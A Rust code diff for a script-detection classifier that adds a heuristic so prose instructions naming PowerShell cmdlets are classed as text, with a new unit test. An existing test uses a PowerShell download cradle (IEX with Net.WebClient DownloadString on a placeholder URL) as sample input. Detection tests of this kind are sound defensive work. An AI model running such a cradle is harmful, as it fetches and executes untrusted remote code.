@@ -269,7 +269,7 @@ fn script_type(text: &str, seen: &[bool]) -> Option<FileType> {
         if count(Family::WshXml) > 0 && is_wsh_xml(body) {
             return Some(known::WSH);
         }
-        if is_other_language(body) {
+        if is_other_language(body) || reads_as_prose(body) {
             return None;
         }
         let ps = count(Family::PowerShell);
@@ -351,6 +351,43 @@ fn is_other_language(body: &str) -> bool {
         || body.contains("\n.. ")
         || body.contains("::\n\n    ")
         || body.contains("::\r\n\r\n    ")
+}
+
+/// True when most lines of a text are sentences: five words or more, most
+/// of them plain words. A how-to that names `Invoke-WebRequest` and
+/// `Start-Process` in its steps is prose; the lines of a script are
+/// assignments, calls and pipes. Comment lines count for neither.
+fn reads_as_prose(body: &str) -> bool {
+    let mut lines = 0usize;
+    let mut prose = 0usize;
+    for l in body.lines().take(200) {
+        let l = l.trim();
+        if l.is_empty()
+            || ["'", "#", "//", "rem ", "REM ", "<#", "::", ";", "*", "/*"]
+                .iter()
+                .any(|c| l.starts_with(c))
+        {
+            continue;
+        }
+        lines += 1;
+        let mut words = 0usize;
+        let mut plain = 0usize;
+        for w in l.split_whitespace() {
+            words += 1;
+            let w = w.trim_end_matches([',', '.', ';', ':', '!', '?', ')']);
+            let w = w.trim_start_matches('(');
+            if !w.is_empty()
+                && w.chars()
+                    .all(|c| c.is_alphabetic() || c == '\'' || c == '-')
+            {
+                plain += 1;
+            }
+        }
+        if words >= 5 && plain * 10 >= words * 7 {
+            prose += 1;
+        }
+    }
+    lines > 0 && prose * 2 > lines
 }
 
 /// A batch file by its syntax: lines of batch that prose and other
@@ -545,6 +582,15 @@ mod tests {
     fn download_cradle_is_powershell() {
         let t = b"$c = New-Object Net.WebClient; IEX ($c.DownloadString('http://x/a'))";
         assert_eq!(classify(t), known::POWERSHELL);
+    }
+
+    #[test]
+    fn a_how_to_naming_cmdlets_stays_text() {
+        let t = b"How to update the agent\n\n1. Open PowerShell as an administrator, please.\n\
+            2. Download it with Invoke-WebRequest (the URL is on the wiki page).\n\
+            3. Run it with Start-Process and wait for it to finish.\n\
+            4. If Invoke-Expression is blocked, ask IT; never use Net.WebClient.\n";
+        assert_eq!(classify(t), known::TEXT);
     }
 
     #[test]
